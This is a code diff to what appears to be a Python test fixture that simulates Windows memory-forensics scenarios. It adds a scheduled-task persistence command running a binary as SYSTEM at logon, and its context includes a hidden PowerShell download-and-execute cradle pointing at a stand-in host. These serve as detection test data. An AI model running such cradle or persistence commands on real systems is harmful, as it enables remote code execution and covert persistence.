@@ -391,6 +391,9 @@ POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
 # its own the memory image shows a running task no definition names.
 DISK_TASK_GUID = task_guid(ENCODED_PS_TASK)
 DISK_CRADLE_COMMAND = f'"{POWERSHELL}" -NoProfile -WindowStyle Hidden -EncodedCommand {ENCODED_CRADLE}'
+REGISTER_COMMAND = (f'"{POWERSHELL}" -NoProfile -Command "Register-ScheduledTask -TaskName EdgeSync -TaskPath \\Microsoft\\ '
+                    '-Action (New-ScheduledTaskAction -Execute C:\\Users\\Public\\edge.exe -Argument --sync) '
+                    '-Trigger (New-ScheduledTaskTrigger -AtLogOn) -User SYSTEM"')
 # Windows 7: a download cradle run by taskeng.exe for a task the in-memory TaskCache does not hold.
 WIN7_CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://flash-update.example.net/s.ps1')"
 WIN7_CRADLE_COMMAND = ("powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand "
@@ -474,6 +477,9 @@ def _win10() -> Scenario:
              r"C:\Windows\system32\taskhostw.exe", session=1, sid=USER_SID, threads=6),
         Proc(7412, 7400, "powershell.exe", "2024-05-14T09:40:01Z", DISK_CRADLE_COMMAND, POWERSHELL, session=1, sid=USER_SID,
              threads=11),
+        # a user's PowerShell that registered a task and exited: only pool scanning still finds it
+        Proc(7508, 2980, "powershell.exe", "2024-05-14T09:45:00Z", REGISTER_COMMAND, POWERSHELL, session=1, sid=USER_SID,
+             threads=0, exit="2024-05-14T09:45:02Z", linked=False),
     ]
     tasks = [
         Task(r"\Microsoft\Windows\Wininet\CacheTask", "{5D8E0B6F-4C2A-4E1B-9F1D-3A6C2B7E8F90}",
